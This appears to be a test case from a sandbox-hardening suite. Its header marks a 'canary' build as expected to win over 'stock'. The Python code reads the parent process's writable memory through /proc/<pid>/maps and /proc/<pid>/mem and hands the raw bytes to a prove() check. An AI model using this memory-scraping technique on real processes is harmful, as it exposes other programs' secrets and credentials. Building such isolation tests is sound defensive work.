# Reads the memory of the process that started this one.
# wins: canary
# control: stock

# %% after="given_imports"
import os


def scan(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, kind = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if "w" in kind and end - start < 2**26:
                try:
                    memory.seek(start)
                    prove(memory.read(end - start))
                except OSError:
                    pass


scan(os.getppid())
